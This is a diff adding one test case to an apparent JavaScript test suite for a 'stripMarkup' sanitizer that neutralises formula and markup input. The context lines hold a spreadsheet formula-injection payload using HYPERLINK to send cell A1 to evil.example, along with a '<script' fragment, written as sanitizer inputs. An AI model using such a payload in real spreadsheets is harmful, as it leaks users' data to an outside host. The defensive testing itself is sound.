@@ -24,6 +24,7 @@ describe('stripMarkup', () => {
     ['<script wipe', ' '],
     ['=HYPERLINK("http://evil.example/?x="&A1,"Go") wipe', ' wipe'],
     ['wipe =SUM(A1)', 'wipe SUM(A1)'],
+    ['gloves + goggles!! =Sheet1!A1 and +Sheet2!$B$12', 'gloves + goggles!! Sheet1!A1 and Sheet2!$B$12'],
     ['temp <5 and >2, P&L > 10%', 'temp <5 and >2, P&L > 10%'],
     ['ask <client name>', 'ask [client name]'],
     ['-5 °C and +44 20', '-5 °C and +44 20'],
